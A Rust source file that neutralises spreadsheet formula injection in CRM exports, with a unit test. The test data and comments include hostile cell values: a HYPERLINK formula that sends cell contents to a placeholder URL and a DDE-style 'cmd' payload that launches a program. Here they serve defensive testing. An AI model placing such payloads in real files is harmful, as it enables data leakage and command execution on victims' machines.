//! Text cells that spreadsheets would run as formulas. CRM text (an account named
//! `=HYPERLINK(...)` or `+cmd|calc`) must not become a live formula when a planner opens
//! an export in Excel: every text cell starting with `=`, `+`, `-`, `@`, a tab or a
//! carriage return gets a leading apostrophe, as OWASP recommends; numbers stay numbers.
//! The importers take the apostrophe off again, so export-then-import is the identity.

use std::borrow::Cow;

/// Characters a spreadsheet reads as the start of a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn starts_a_formula(text: &str) -> bool {
    text.starts_with(FORMULA_STARTS)
}

/// A cell as it is safe to write: text that would start a formula gets a leading
/// apostrophe; a number (`-12.50`) is left as it is.
pub fn safe_cell(text: &str) -> Cow<'_, str> {
    if starts_a_formula(text) && !is_number(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A cell as read back: the apostrophe `safe_cell` added is taken off.
pub fn restore_cell(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if starts_a_formula(rest) && !is_number(rest) => rest,
        _ => text,
    }
}

fn is_number(text: &str) -> bool {
    text.trim().parse::<f64>().is_ok_and(f64::is_finite)
}

/// A whole row made safe.
pub fn safe_row<S: AsRef<str>>(row: impl IntoIterator<Item = S>) -> Vec<String> {
    row.into_iter().map(|c| safe_cell(c.as_ref()).into_owned()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralized_and_numbers_kept() {
        let hostile = ["=HYPERLINK(\"http://x\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTab", "\rCR"];
        for text in hostile {
            let safe = safe_cell(text);
            assert!(safe.starts_with('\''), "{text}");
            assert_eq!(restore_cell(&safe), text);
        }
        for plain in ["Acme", "-12.50", "+5", "1e3", "", "'quoted already"] {
            assert_eq!(safe_cell(plain), plain);
            assert_eq!(restore_cell(plain), plain);
        }
    }
}
